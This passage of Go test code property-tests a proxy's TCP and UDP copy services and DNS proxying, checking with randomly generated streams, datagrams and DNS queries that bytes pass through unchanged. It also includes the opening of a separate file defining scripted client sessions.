			sc := &tcpScript{expect: 1 + len(payloads[ci][0]), reply: c.reply(ci, 0, 0, nil), cuts: m.RCuts,
				gate: cl.Gate, linger: time.Duration(cl.LingerMs) * time.Millisecond, halfClose: cl.BackendHalfClose}
			scheds[ci] = &copySched{halfClose: cl.HalfClose, linger: sc.linger}
			if cl.HalfClose {
				sc.clientClosed = newLatch()
				scheds[ci].clientClosed = sc.clientClosed
			}
			if cl.BackendHalfClose && cl.CGate > 1 && cl.Gate == 0 {
				sc.backendClosed = newLatch()
				scheds[ci].cgate, scheds[ci].backendClosed = cl.CGate, sc.backendClosed
			}
			be.mu.Lock()
			be.scripts[tagOf(ci)] = sc
			be.mu.Unlock()
		}
	case "copy-udp", "dns-udp":
		ub, proxyPort = e.copyUB, e.copyUPort
		if c.Kind == "dns-udp" {
			ub, proxyPort = e.dnsUB, e.dnsPort
		}
		ub.mu.Lock()
		for ci, cl := range c.Clients {
			for j, m := range cl.Msgs {
				var rs [][]byte
				for k := range m.Replies {
					if c.Kind == "dns-udp" && m.DNS == nil {
						// not a dns message: only non-corruption on the way in is
						// asserted, the backend stays silent
						break
					}
					rs = append(rs, c.reply(ci, j, k, payloads[ci][j]))
				}
				ub.scripts[string(payloads[ci][j])] = rs
			}
		}
		ub.mu.Unlock()
	case "dns-tcp":
		proxyPort = e.dnsPort
		e.dnsTB.mu.Lock()
		for ci, cl := range c.Clients {
			for j := range cl.Msgs {
				e.dnsTB.scripts[string(payloads[ci][j])] = dnsTCPScript{reply: c.reply(ci, j, 0, payloads[ci][j]), cuts: cl.Msgs[j].RCuts}
			}
		}
		e.dnsTB.mu.Unlock()
	default:
		return fmt.Errorf("infra: unknown kind %q", c.Kind)
	}
	for ci := range c.Clients {
		wg.Add(1)
		go func(ci int) {
			defer wg.Done()
			switch c.Kind {
			case "copy-tcp":
				results[ci] = runCopyTCP(ci, e.addr(copyPorts[c.Clients[ci].Svc%2]), tagOf(ci), payloads[ci][0], c.Clients[ci].Msgs[0].Cuts, len(c.reply(ci, 0, 0, nil)), scheds[ci])
			case "dns-tcp":
				results[ci] = runDNSTCP(ci, e.addr(proxyPort), c.Clients[ci], payloads[ci])
			default:
				results[ci] = runUDP(e.addr(proxyPort), c, ci, payloads[ci], ub)
			}
		}(ci)
	}
	wg.Wait()
	for _, r := range results {
		if isInfra(r.err) {
			return r.err
		}
	}
	if e.decoy.count() != d0 {
		return fmt.Errorf("the decoy address was contacted: %s", e.decoy.last())
	}
	// what the backend saw
	checkRemotes := fromProxyHost
	var pending error
	switch c.Kind {
	case "copy-tcp":
		// scripts are installed only at the backend configured for the port the client
		// connected to: a stream arriving anywhere else is a stream "no client sent" there
		seenAt := make([]map[byte][]*tcpSeen, len(copyBackends))
		for bi, be := range copyBackends {
			be.mu.Lock()
			stray := append([]string(nil), be.stray...)
			remotes := append([]string(nil), be.remotes...)
			seenAt[bi] = map[byte][]*tcpSeen{}
			for k, v := range be.seen {
				seenAt[bi][k] = v
			}
			be.mu.Unlock()
			if len(stray) > 0 {
				return fmt.Errorf("backend %s received %s (to the proxy port it is configured for)", be.l.Addr(), stray[0])
			}
			if err := checkRemotes(remotes); err != nil {
				return err
			}
		}
		for _, hb := range []*httpBackend{e.http2B, e.http3B} {
			if _, _, stray, _ := hb.snapshot(); len(stray) > 0 {
				return fmt.Errorf("http backend %s (another port of the shared director) received: %s", hb.l.Addr(), stray[0])
			}
		}
		for ci := range c.Clients {
			r := results[ci]
			want := append([]byte{tagOf(ci)}, payloads[ci][0]...)
			ss := seenAt[c.Clients[ci].Svc%2][tagOf(ci)]
			if len(ss) > 1 {
				return fmt.Errorf("client %d: its stream reached the backend on %d connections", ci, len(ss))
			}
			if len(ss) == 0 {
				if r.err != nil {
					pending = &timeoutErr{fmt.Sprintf("client %d: %v; the backend never saw its stream (%d bytes)", ci, r.err, len(want))}
					continue
				}
				return fmt.Errorf("client %d: the backend never saw its stream (%d bytes)", ci, len(want))
			}
			ss[0].mu.Lock()
			data, extra := append([]byte(nil), ss[0].data...), ss[0].extra
			ss[0].mu.Unlock()
			if !bytes.Equal(data, want) {
				if r.err != nil && bytes.HasPrefix(want, data) {
					pending = &timeoutErr{fmt.Sprintf("client %d: %v; backend received %d of %d bytes", ci, r.err, len(data), len(want))}
					continue
				}
				return fmt.Errorf("client %d: stream changed on the way to the backend: %s", ci, firstDiff(data, want))
			}
			if extra > 0 {
				return fmt.Errorf("client %d: backend received %d bytes more than the client sent", ci, extra)
			}
			if r.err != nil {
				pending = &timeoutErr{fmt.Sprintf("client %d: %v", ci, r.err)}
				continue
			}
			if want := c.reply(ci, 0, 0, nil); !bytes.Equal(r.got[0][0], want) {
				return fmt.Errorf("client %d: reply stream changed on the way to the client: %s", ci, firstDiff(r.got[0][0], want))
			}
		}
	case "dns-tcp":
		e.dnsTB.mu.Lock()
		stray := append([]string(nil), e.dnsTB.stray...)
		remotes := append([]string(nil), e.dnsTB.remotes...)
		seen := map[string]int{}
		for k, v := range e.dnsTB.seen {
			seen[k] = v
		}
		e.dnsTB.mu.Unlock()
		if len(stray) > 0 {
			return fmt.Errorf("backend received %s", stray[0])
		}
		if err := checkRemotes(remotes); err != nil {
			return err
		}
		for ci := range c.Clients {
			r := results[ci]
			for j := range r.got {
				p := payloads[ci][j]
				if seen[string(p)] != 1 {
					return fmt.Errorf("client %d message %d: client got a reply but the backend saw the message %d times", ci, j, seen[string(p)])
				}
				if want := c.reply(ci, j, 0, p); !bytes.Equal(r.got[j][0], want) {
					return fmt.Errorf("client %d message %d: reply changed on the way to the client: %s", ci, j, firstDiff(r.got[j][0], want))
				}
			}
			if r.err != nil {
				pending = &timeoutErr{fmt.Sprintf("client %d: %v (backend saw %d of the %d messages sent)", ci, r.err, countSeen(seen, payloads[ci][:r.sent]), r.sent)}
			}
		}
	default:
		ub.mu.Lock()
		stray := append([]string(nil), ub.stray...)
		var remotes []string
		for k := range ub.remotes {
			remotes = append(remotes, k)
		}
		seen := map[string]int{}
		for k, v := range ub.seen {
			seen[k] = v
		}
		ub.mu.Unlock()
		if len(stray) > 0 {
			return fmt.Errorf("backend received %s", stray[0])
		}
		if err := checkRemotes(remotes); err != nil {
			return err
		}
		for ci, cl := range c.Clients {
			r := results[ci]
			for j, m := range cl.Msgs {
				if j >= r.sent {
					break
				}
				p := payloads[ci][j]
				lenient := c.Kind == "dns-udp" && m.DNS == nil
				if n := seen[string(p)]; n > 1 || (n == 0 && !lenient && (j < len(r.got) || r.err == nil)) {
					return fmt.Errorf("client %d datagram %d (%d bytes): the backend received it %d times", ci, j, len(p), n)
				}
				if j < len(r.got) {
					for k, g := range r.got[j] {
						if want := c.reply(ci, j, k, p); !bytes.Equal(g, want) {
							return fmt.Errorf("client %d datagram %d reply %d: changed on the way to the client: %s", ci, j, k, firstDiff(g, want))
						}
					}
				}
			}
			if r.err != nil {
				pending = &timeoutErr{fmt.Sprintf("client %d: %v (backend saw %d of the %d datagrams sent)", ci, r.err, countSeen(seen, payloads[ci][:r.sent]), r.sent)}
			}
		}
	}
	if pending != nil {
		return pending
	}
	// events attributed to each client: one per relayed stream / query
	for ci, cl := range c.Clients {
		r := results[ci]
		want := 0
		cat := "copy"
		switch c.Kind {
		case "copy-tcp":
			want = 1
		case "copy-udp":
			want = len(cl.Msgs)
		default:
			cat = "dns-proxy"
			for _, m := range cl.Msgs {
				if m.DNS != nil {
					want++
				}
			}
		}
		count := func(evs []lab.Ev) int {
			n := 0
			for _, ev := range clientEvents(evs, mark, r.local) {
				if ev.Str("category") == cat {
					n++
				}
			}
			return n
		}
		if !e.cap.WaitFor(waitBound, func(evs []lab.Ev) bool { return count(evs) >= want }) {
			return &timeoutErr{fmt.Sprintf("client %d (%s): %d requests were relayed but only %d %q events are attributed to that address", ci, r.local, want, count(e.cap.Events()), cat)}
		}
	}
	if e.decoy.count() != d0 {
		return fmt.Errorf("the decoy address was contacted: %s", e.decoy.last())
	}
	return nil
}

func countSeen(seen map[string]int, ps [][]byte) int {
	n := 0
	for _, p := range ps {
		if seen[string(p)] > 0 {
			n++
		}
	}
	return n
}

// copySched is the client's side of a copy-tcp schedule (see rawClient).
type copySched struct {
	halfClose     bool
	clientClosed  *latch
	cgate         int
	backendClosed *latch
	linger        time.Duration
}

func runCopyTCP(ci int, addr string, tag byte, payload []byte, cuts []int, replyLen int, sched *copySched) *rawResult {
	res := &rawResult{}
	c, err := dialTCPFrom(ci, addr)
	if err != nil {
		res.err = fmt.Errorf("infra: dial proxy %s: %v", addr, err)
		return res
	}
	defer c.Close()
	c.(*net.TCPConn).SetNoDelay(true)
	res.local = c.LocalAddr()
	stream := append([]byte{tag}, payload...)
	go func() {
		// whatever happens to the writes, the backend is not left waiting for the signal
		defer sched.clientClosed.fire()
		for i, part := range split(stream, cuts) {
			if sched.cgate > 0 && i == sched.cgate-1 {
				sched.backendClosed.wait()
				time.Sleep(sched.linger)
			} else if i > 0 && i <= 2 {
				time.Sleep(time.Millisecond)
			}
			c.SetWriteDeadline(time.Now().Add(30 * time.Second))
			if _, err := c.Write(part); err != nil {
				return
			}
		}
		if sched.halfClose {
			c.(*net.TCPConn).CloseWrite()
		}
	}()
	res.sent = 1
	var got []byte
	buf := make([]byte, 32768)
	for {
		c.SetReadDeadline(time.Now().Add(waitBound))
		n, err := c.Read(buf)
		got = append(got, buf[:n]...)
		if err == io.EOF {
			break
		}
		if err != nil {
			if isNetTimeout(err) && len(got) == replyLen {
				// everything arrived; the proxy merely keeps the connection open
				break
			}
			res.got = [][][]byte{{got}}
			res.err = fmt.Errorf("client read %d of %d reply bytes, then: %v", len(got), replyLen, err)
			return res
		}
	}
	res.got = [][][]byte{{got}}
	if len(got) < replyLen {
		res.err = fmt.Errorf("the connection was closed after %d of %d reply bytes", len(got), replyLen)
	}
	return res
}

// The copy service keeps one backend socket per relayed datagram for two seconds (it
// waits for further replies). Local udp ports are a machine-wide resource (about 28000)
// shared with every other shard and run: pace the datagrams so that one process never
// holds more than a few hundred of them.
var (
	paceMu   sync.Mutex
	paceSent []time.Time
)

func pace(kind string) {
	if kind != "copy-udp" {
		return
	}
	for {
		paceMu.Lock()
		now := time.Now()
		for len(paceSent) > 0 && now.Sub(paceSent[0]) > 3*time.Second {
			paceSent = paceSent[1:]
		}
		if len(paceSent) < 800 {
			paceSent = append(paceSent, now)
			paceMu.Unlock()
			return
		}
		paceMu.Unlock()
		time.Sleep(50 * time.Millisecond)
	}
}

func runUDP(addr string, c rawCase, ci int, payloads [][]byte, ub *udpBackend) *rawResult {
	res := &rawResult{}
	ra, _ := net.ResolveUDPAddr("udp", addr)
	u, err := net.DialUDP("udp", &net.UDPAddr{IP: clientIP(ci)}, ra)
	if err != nil {
		res.err = fmt.Errorf("infra: %v", err)
		return res
	}
	defer u.Close()
	u.SetReadBuffer(1 << 20)
	res.local = u.LocalAddr()
	buf := make([]byte, 65536)
	for j, m := range c.Clients[ci].Msgs {
		pace(c.Kind)
		if _, err := u.Write(payloads[j]); err != nil {
			res.err = fmt.Errorf("infra: udp write of %d bytes: %v", len(payloads[j]), err)
			return res
		}
		res.sent = j + 1
		lenient := c.Kind == "dns-udp" && m.DNS == nil
		var got [][]byte
		if lenient || len(m.Replies) == 0 {
			// no reply to wait for: wait for the backend to have it
			bound := waitBound
			if lenient {
				bound = 100 * time.Millisecond
			}
			deadline := time.Now().Add(bound)
			for ub.count(payloads[j]) == 0 && time.Now().Before(deadline) {
				time.Sleep(200 * time.Microsecond)
			}
			if !lenient && ub.count(payloads[j]) == 0 {
				res.err = fmt.Errorf("datagram %d (%d bytes) did not reach the backend within %s", j, len(payloads[j]), waitBound)
				return res
			}
		}
		if !lenient {
			for k := range m.Replies {
				u.SetReadDeadline(time.Now().Add(waitBound))
				n, err := u.Read(buf)
				if err != nil {
					res.err = fmt.Errorf("reply %d of %d to datagram %d (%d bytes) did not reach the client: %v", k, len(m.Replies), j, len(payloads[j]), err)
					return res
				}
				got = append(got, append([]byte(nil), buf[:n]...))
			}
		}
		res.got = append(res.got, got)
	}
	// anything nobody sent?
	u.SetReadDeadline(time.Now().Add(5 * time.Millisecond))
	if n, err := u.Read(buf); err == nil {
		res.err = fmt.Errorf("client received a surplus datagram of %d bytes: %s", n, short(buf[:n]))
	}
	return res
}

func runDNSTCP(ci int, addr string, cl rawClient, payloads [][]byte) *rawResult {
	res := &rawResult{}
	c, err := dialTCPFrom(ci, addr)
	if err != nil {
		res.err = fmt.Errorf("infra: dial proxy %s: %v", addr, err)
		return res
	}
	defer c.Close()
	c.(*net.TCPConn).SetNoDelay(true)
	res.local = c.LocalAddr()
	if cl.Pipelined {
		return runDNSTCPPipelined(c.(*net.TCPConn), cl, payloads, res)
	}
	for j, m := range cl.Msgs {
		w := make([]byte, 2+len(payloads[j]))
		binary.BigEndian.PutUint16(w, uint16(len(payloads[j])))
		copy(w[2:], payloads[j])
		for i, part := range split(w, m.Cuts) {
			if i > 0 && i <= 2 {
				time.Sleep(time.Millisecond)
			}
			if _, err := c.Write(part); err != nil {
				res.err = fmt.Errorf("client could not write message %d: %v", j, err)
				return res
			}
		}
		if cl.HalfClose && j == len(cl.Msgs)-1 {
			// nothing more to ask: the client ends its sending side and reads the reply
			c.(*net.TCPConn).CloseWrite()
		}
		res.sent = j + 1
		c.SetReadDeadline(time.Now().Add(waitBound))
		var lb [2]byte
		if _, err := io.ReadFull(c, lb[:]); err != nil {
			res.err = fmt.Errorf("reply to message %d (%d bytes) did not reach the client: %v", j, len(payloads[j]), err)
			return res
		}
		reply := make([]byte, binary.BigEndian.Uint16(lb[:]))
		if n, err := io.ReadFull(c, reply); err != nil {
			res.err = fmt.Errorf("reply to message %d: length prefix %d but %d bytes followed: %v", j, len(reply), n, err)
			return res
		}
		res.got = append(res.got, [][]byte{reply})
	}
	return res
}

// runDNSTCPPipelined writes the framed queries of the connection as one stream, cut
// where the case says, while the replies are read as they arrive (writer and reader run
// side by side: neither end of the relay is ever waited for with full socket buffers).
func runDNSTCPPipelined(c *net.TCPConn, cl rawClient, payloads [][]byte, res *rawResult) *rawResult {
	var stream []byte
	for j := range cl.Msgs {
		var lb [2]byte
		binary.BigEndian.PutUint16(lb[:], uint16(len(payloads[j])))
		stream = append(append(stream, lb[:]...), payloads[j]...)
	}
	werr := make(chan error, 1)
	go func() {
		for i, part := range split(stream, cl.PCuts) {
			if i > 0 && i <= 2 {
				time.Sleep(time.Millisecond)
			}
			c.SetWriteDeadline(time.Now().Add(30 * time.Second))
			if _, err := c.Write(part); err != nil {
				werr <- err
				return
			}
		}
		if cl.HalfClose {
			// nothing more to ask: the client ends its sending side
			c.CloseWrite()
		}
		werr <- nil
	}()
	// all queries count as sent (the figure only words the "did not arrive" message)
	res.sent = len(cl.Msgs)
	for j := range cl.Msgs {
		c.SetReadDeadline(time.Now().Add(waitBound))
		var lb [2]byte
		if _, err := io.ReadFull(c, lb[:]); err != nil {
			res.err = fmt.Errorf("pipelined: reply to message %d of %d (%d bytes) did not reach the client: %v", j, len(cl.Msgs), len(payloads[j]), err)
			break
		}
		reply := make([]byte, binary.BigEndian.Uint16(lb[:]))
		if n, err := io.ReadFull(c, reply); err != nil {
			res.err = fmt.Errorf("pipelined: reply to message %d: length prefix %d but %d bytes followed: %v", j, len(reply), n, err)
			break
		}
		res.got = append(res.got, [][]byte{reply})
	}
	if res.err != nil {
		c.SetWriteDeadline(time.Now()) // do not leave the writer behind
	}
	if err := <-werr; err != nil && res.err == nil {
		res.err = fmt.Errorf("pipelined: client could not write its queries: %v", err)
	}
	if res.err == nil {
		// anything nobody asked for?
		c.SetReadDeadline(time.Now().Add(5 * time.Millisecond))
		var b [1]byte
		if n, _ := c.Read(b[:]); n > 0 {
			res.err = fmt.Errorf("pipelined: the client received bytes beyond the %d replies (first: 0x%02x)", len(cl.Msgs), b[0])
		}
	}
	return res
}

// genStreamCuts draws write boundaries for a stream made of framed messages that end at
// the offsets ends (the last one is the stream's length): none (a single write), exactly
// the message boundaries, near them (inside a length prefix, a byte before / after a
// boundary) or anywhere.
func genStreamCuts(t *rapid.T, label string, ends []int) []int {
	total := ends[len(ends)-1]
	var out []int
	switch rapid.IntRange(0, 5).Draw(t, label+"-mode") {
	case 0, 1:
		return nil
	case 2:
		out = append(out, ends[:len(ends)-1]...)
	case 3, 4:
		k := rapid.IntRange(1, 4).Draw(t, label+"-k")
		for i := 0; i < k; i++ {
			e := rapid.SampledFrom(ends).Draw(t, label+"-at")
			out = append(out, e+rapid.IntRange(-3, 3).Draw(t, label+"-off"))
		}
	default:
		out = genCuts(t, label, total)
	}
	sort.Ints(out)
	var clean []int
	for _, x := range out {
		if x > 0 && x < total && (len(clean) == 0 || clean[len(clean)-1] != x) {
			clean = append(clean, x)
		}
	}
	return clean
}

// ---- generators ----

var dnsLabels = []string{"example", "com", "a", "www", "xn--bcher-kva", "mail-01", "0", "label-of-63-bytes-label-of-63-bytes-label-of-63-bytes-label-of-"}
var dnsTypes = []int{1, 28, 15, 16, 255, 12, 33, 2, 6}

func genDNSQuery(t *rapid.T) *dnsQuery {
	q := &dnsQuery{RD: rapid.Bool().Draw(t, "rd"), EDNS: rapid.Bool().Draw(t, "edns")}
	q.Opcode = rapid.SampledFrom([]int{0, 0, 0, 0, 1, 2, 4, 5}).Draw(t, "opcode")
	n := rapid.SampledFrom([]int{1, 1, 1, 2}).Draw(t, "nq")
	for i := 0; i < n; i++ {
		k := rapid.IntRange(0, 4).Draw(t, "nlabel")
		var ls []string
		size := 1
		for x := 0; x < k; x++ {
			l := rapid.SampledFrom(dnsLabels).Draw(t, "label")
			if size+1+len(l) > 255 {
				continue // a domain name is at most 255 octets on the wire
			}
			size += 1 + len(l)
			ls = append(ls, l)
		}
		q.Names = append(q.Names, strings.Join(ls, "."))
		q.Types = append(q.Types, rapid.SampledFrom(dnsTypes).Draw(t, "qtype"))
	}
	return q
}

func genDatagramLen(t *rapid.T, label string) int {
	switch rapid.IntRange(0, 9).Draw(t, label+"-bucket") {
	case 0:
		return 0
	case 1, 2, 3:
		return rapid.IntRange(1, 64).Draw(t, label)
	case 4, 5, 6:
		return rapid.IntRange(65, 1472).Draw(t, label)
	case 7, 8:
		return rapid.IntRange(1473, 9000).Draw(t, label)
	default:
		return rapid.IntRange(9001, 60000).Draw(t, label)
	}
}

// genFramedSize draws the size of a message behind a two-byte length prefix: 0 (leave the
// natural size), anywhere up to the largest the prefix can express, or at the boundaries.
func genFramedSize(t *rapid.T, label string) int {
	switch rapid.IntRange(0, 9).Draw(t, label+"-bucket") {
	case 0, 1:
		return rapid.IntRange(600, 65535).Draw(t, label)
	case 2, 3:
		return rapid.SampledFrom([]int{65535, 65535, 65534, 65534, 65533, 65532, 65531, 32768, 32767, 16384, 4096, 1024}).Draw(t, label)
	default:
		return 0
	}
}

// genBackendHalfClose: the mirror-image schedule (the backend ends its sending side
// first while the client still sends) is generated only on request, see prop.json.
var genBackendHalfClose = os.Getenv("VERIF_C15_BACKEND_HALFCLOSE") == "1"

func genDatagram(t *rapid.T, label string) bodySpec {
	return bodySpec{Len: genDatagramLen(t, label), Seed: rapid.IntRange(0, 1000).Draw(t, label+"-seed"), Kind: rapid.IntRange(0, 2).Draw(t, label+"-kind")}
}

func genRawCase(t *rapid.T, kind string) rawCase {
	c := rawCase{Kind: kind}
	n := rapid.SampledFrom([]int{1, 1, 2, 3}).Draw(t, "nclient")
	for i := 0; i < n; i++ {
		var cl rawClient
		switch kind {
		case "copy-tcp":
			m := rawMsg{Data: genBody(t, "stream"), Replies: []bodySpec{genBody(t, "reply")}}
			if rapid.IntRange(0, 9).Draw(t, "long-reply") == 0 {
				// more than the socket buffers between backend and client hold: the reply
				// is still streaming when the client has long finished sending
				m.Replies[0].Len = rapid.IntRange(65537, 1<<20).Draw(t, "long-reply-len")
			}
			m.Cuts = genCuts(t, "cut", m.Data.Len+1)
			m.RCuts = genCuts(t, "rcut", m.Replies[0].Len)
			cl.Msgs = []rawMsg{m}
			cl.Svc = rapid.IntRange(0, 1).Draw(t, "svc")
			// schedule of the two ends against each other
			cl.HalfClose = rapid.Bool().Draw(t, "half-close")
			if rapid.IntRange(0, 2).Draw(t, "gated") > 0 {
				pieces := len(split(make([]byte, m.Replies[0].Len), m.RCuts))
				cl.Gate = rapid.IntRange(1, pieces).Draw(t, "gate")
				cl.LingerMs = rapid.SampledFrom([]int{0, 1, 10, 40}).Draw(t, "linger")
			}
			if pieces := len(split(make([]byte, m.Data.Len+1), m.Cuts)); genBackendHalfClose && cl.Gate == 0 && pieces >= 2 && rapid.Bool().Draw(t, "backend-half-close") {
				// the first piece carries the tag byte the backend picks its script by
				cl.BackendHalfClose = true
				cl.CGate = rapid.IntRange(2, pieces).Draw(t, "cgate")
				cl.LingerMs = rapid.SampledFrom([]int{0, 1, 10, 40}).Draw(t, "clinger")
			}
		case "copy-udp":
			k := rapid.IntRange(1, 4).Draw(t, "ndgram")
			for j := 0; j < k; j++ {
				m := rawMsg{Data: genDatagram(t, "dgram")}
				nr := rapid.IntRange(0, 2).Draw(t, "nreply")
				for x := 0; x < nr; x++ {
					m.Replies = append(m.Replies, genDatagram(t, "reply"))
				}
				cl.Msgs = append(cl.Msgs, m)
			}
		case "dns-udp":
			k := rapid.IntRange(1, 4).Draw(t, "ndgram")
			for j := 0; j < k; j++ {
				m := rawMsg{Data: bodySpec{Seed: rapid.IntRange(0, 1000).Draw(t, "seed")}}
				if rapid.IntRange(0, 6).Draw(t, "not-dns") == 0 {
					m.Data = genDatagram(t, "dgram")
				} else {
					m.DNS = genDNSQuery(t)
				}
				r := genDatagram(t, "reply")
				if r.Len > 4000 {
					r.Len = 4000
				}
				m.Replies = []bodySpec{r}
				cl.Msgs = append(cl.Msgs, m)
			}
		case "dns-tcp":
			k := rapid.IntRange(1, 3).Draw(t, "nmsg")
			for j := 0; j < k; j++ {
				m := rawMsg{Data: bodySpec{Seed: rapid.IntRange(0, 1000).Draw(t, "seed")}, DNS: genDNSQuery(t)}
				r := genDatagram(t, "reply")
				// over tcp a message is as long as its two-byte length prefix can say
				if size := genFramedSize(t, "qsize"); size >= 600 {
					m.DNS.EDNS, m.DNS.Size, m.DNS.PadSeed = true, size, rapid.IntRange(0, 1000).Draw(t, "pad-seed")
				}
				if size := genFramedSize(t, "rsize"); size >= 4 {
					r.Len = size - 4 // the reply carries a four byte head of its own (id, flags)
				}
				m.Replies = []bodySpec{r}
				if rapid.Bool().Draw(t, "cut-anywhere") {
					m.Cuts = genCuts(t, "cut", 2+len(m.DNS.wire(0)))
				} else {
					m.Cuts = genCuts(t, "cut", 40)
				}
				m.RCuts = genCuts(t, "rcut", 2+4+r.Len)
				cl.Msgs = append(cl.Msgs, m)
			}
			cl.HalfClose = rapid.IntRange(0, 2).Draw(t, "half-close") == 0
			if rapid.Bool().Draw(t, "pipelined") {
				// the same queries, not in lock-step: one stream, cut without regard
				// to the message boundaries (1 in 3 with a query more)
				if k < 2 || rapid.IntRange(0, 2).Draw(t, "one-more") == 0 {
					m := rawMsg{Data: bodySpec{Seed: rapid.IntRange(0, 1000).Draw(t, "seed")}, DNS: genDNSQuery(t)}
					r := genDatagram(t, "reply")
					m.Replies = []bodySpec{r}
					m.RCuts = genCuts(t, "rcut", 2+4+r.Len)
					cl.Msgs = append(cl.Msgs, m)
				}
				cl.Pipelined = true
				var ends []int
				at := 0
				for j := range cl.Msgs {
					cl.Msgs[j].Cuts = nil
					at += 2 + len(cl.Msgs[j].DNS.wire(0))
					ends = append(ends, at)
				}
				cl.PCuts = genStreamCuts(t, "pcut", ends)
			}
		}
		c.Clients = append(c.Clients, cl)
	}
	if n > 1 && strings.HasSuffix(kind, "-udp") {
		// several clients at once: keep a burst within the receive buffer of the
		// server's socket (about 200 KiB), the kernel drops what does not fit
		for ci := range c.Clients {
			for j := range c.Clients[ci].Msgs {
				m := &c.Clients[ci].Msgs[j]
				if m.Data.Len > 30000 {
					m.Data.Len = 30000
				}
				for k := range m.Replies {
					if m.Replies[k].Len > 30000 {
						m.Replies[k].Len = 30000
					}
				}
			}
		}
	}
	return c
}

func (c rawCase) nontrivial() bool {
	for _, cl := range c.Clients {
		if len(cl.Msgs) >= 2 {
			return true
		}
		for _, m := range cl.Msgs {
			if m.Data.Len > 0 || m.DNS != nil {
				return true
			}
		}
	}
	return false
}

const rawRule = "copy over tcp: two copy services (own director with a port / the port-less director shared with two http-proxy ports, drawn per client), 1..3 concurrent clients, each one stream (tag byte + 0..64 KiB random / text / look-alike bytes) written in 1..5 pieces, backend answers with a stream 0..64 KiB (1 in 10: up to 1 MiB) in 1..5 pieces; schedule: the client half-closes after its last byte (1 in 2), the backend replies from the first byte on or holds a drawn reply piece and the rest back until the client stream is complete and (if so) half-closed, plus 0..40 ms; copy over udp: 1..4 datagrams per client (0..60000 bytes), 0..2 reply datagrams each; dns-proxy over udp: 1..4 queries per client (own encoder: opcode, RD, 1..2 questions, 0..4 labels, 9 qtypes, optional OPT record; 1 in 7 is an arbitrary non-DNS datagram for which only non-corruption is asserted), one reply datagram 4..4004 bytes each; dns-proxy over tcp: 1..3 length-prefixed queries per connection, natural size or padded (EDNS0 padding option) to a drawn size 600..65535 with the boundary values 65531..65535 / powers of two favoured, replies likewise up to 65535 bytes, cuts in the first 40 bytes or anywhere, reply written in 1..5 pieces, client half-closes after its last query (1 in 3), lock-step (a query is written after the reply to the one before was read) or pipelined (1 in 2: the 2..4 framed queries of the connection are one stream written in a single write, cut at / within 3 bytes of the message boundaries or anywhere, replies read as they come); oracle: backend received exactly the client's bytes, client received exactly the backend's, events attributed to the client's address, decoy untouched; non-trivial = a non-empty stream/datagram or >=2 datagrams on one client"

func runRaw(t *testing.T, name, kind string, checks int) {
	r := vlib.Open(prop)
	r.Rule(rawRule)
	var rc rawCase
	if vlib.ReplayCase(name, &rc) {
		if err := checkRaw(t, rc); err != nil {
			if isInfra(err) {
				infraExit(err)
			}
			r.Violation(t, name, rc, err.Error())
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	getEnv(t)
	r.Rapid(t, name, checks, func(rt *rapid.T) {
		c := genRawCase(rt, kind)
		fp := ""
		if c.nontrivial() {
			fp = vlib.JSON(c)
		}
		r.Case(fmt.Sprintf("%s/clients=%d", kind, len(c.Clients)), fp, func() interface{} { return c })
		if kind == "copy-tcp" {
			for _, cl := range c.Clients {
				r.Label("copy-tcp/director="+[]string{"host-with-port", "shared-portless"}[cl.Svc%2], 1)
				if cl.HalfClose && cl.Msgs[0].Replies[0].Len > 0 {
					if cl.Gate > 0 {
						r.Label("copy-tcp/client-half-close/reply-held-back", 1)
					} else {
						r.Label("copy-tcp/client-half-close/reply-from-first-byte", 1)
					}
				}
				if cl.BackendHalfClose {
					r.Label("copy-tcp/backend-half-close", 1)
				}
			}
		}
		if kind == "dns-tcp" {
			for _, cl := range c.Clients {
				if cl.HalfClose {
					r.Label("dns-tcp/client-half-close", 1)
				}
				if cl.Pipelined {
					r.Label("dns-tcp/pipelined", 1)
					if len(cl.PCuts) == 0 {
						r.Label("dns-tcp/pipelined/one-write", 1)
					} else {
						r.Label("dns-tcp/pipelined/cut", 1)
					}
				} else {
					r.Label("dns-tcp/lock-step", 1)
				}
				for _, m := range cl.Msgs {
					if n := len(m.DNS.wire(0)); n >= 65534 {
						r.Label("dns-tcp/query-size>=65534", 1)
					}
					if n := 4 + m.Replies[0].Len; n >= 65534 {
						r.Label("dns-tcp/reply-size>=65534", 1)
					}
				}
			}
		}
		if err := checkRaw(t, c); err != nil {
			if isInfra(err) {
				infraExit(err)
			}
			r.Fail(rt, name, c, "%v", err)
		}
	})
}

func TestCopyTCP(t *testing.T) { runRaw(t, "TestCopyTCP", "copy-tcp", vlib.Open(prop).Pick(600, 5000)) }
func TestCopyUDP(t *testing.T) { runRaw(t, "TestCopyUDP", "copy-udp", vlib.Open(prop).Pick(400, 3000)) }
func TestDNSUDP(t *testing.T)  { runRaw(t, "TestDNSUDP", "dns-udp", vlib.Open(prop).Pick(600, 5000)) }
func TestDNSTCP(t *testing.T)  { runRaw(t, "TestDNSTCP", "dns-tcp", vlib.Open(prop).Pick(500, 4000)) }
