package svc

import (
	"fmt"
	"net"
	"sort"
	"strings"
	"time"

	"verif/lab"
)

// Step is one client write (exactly one server-side read segment on the in-memory
// transport). Wait = lock-step point: wait until the server consumed it and is idle.
type Step struct {
	Data []byte
	Wait bool
}

// Script is one connection (TCP) or one datagram exchange (UDP: every step is its own
// datagram from the same client address).
type Script struct {
	Service string
	UDP     bool
	SrcIP   net.IP
	SrcPort int
	Steps   []Step
	End     string // "close" (half-close after the last step), "reset", "open" (leave it)
}

// Session is a script being executed.
type Session struct {
	Script *Script
	Conn   *lab.Conn
	Dgrams []*lab.Datagram
	next   int
	inst   *Instance
}

func (in *Instance) Open(s *Script) *Session {
	if s.SrcIP == nil {
		s.SrcIP, s.SrcPort = NextClient()
	}
	se := &Session{Script: s, inst: in}
	p := PortOf(s.Service)
	if p == nil {
		panic("unknown service " + s.Service)
	}
	if !s.UDP {
		se.Conn = in.Srv.L.DialTCP(&net.TCPAddr{IP: ServerIP, Port: p.Port}, &net.TCPAddr{IP: s.SrcIP, Port: s.SrcPort})
	}
	return se
}

// StepTimeout bounds lock-step waits; a wait that times out is not a verdict by itself.
var StepTimeout = 5 * time.Second

// Next executes the next step; returns false when the script is exhausted.
func (se *Session) Next() bool {
	s := se.Script
	if se.next >= len(s.Steps) {
		return false
	}
	st := s.Steps[se.next]
	se.next++
	if s.UDP {
		p := PortOf(s.Service)
		d := se.inst.Srv.L.SendUDP(&net.UDPAddr{IP: ServerIP, Port: p.Port}, &net.UDPAddr{IP: s.SrcIP, Port: s.SrcPort}, st.Data)
		se.Dgrams = append(se.Dgrams, d)
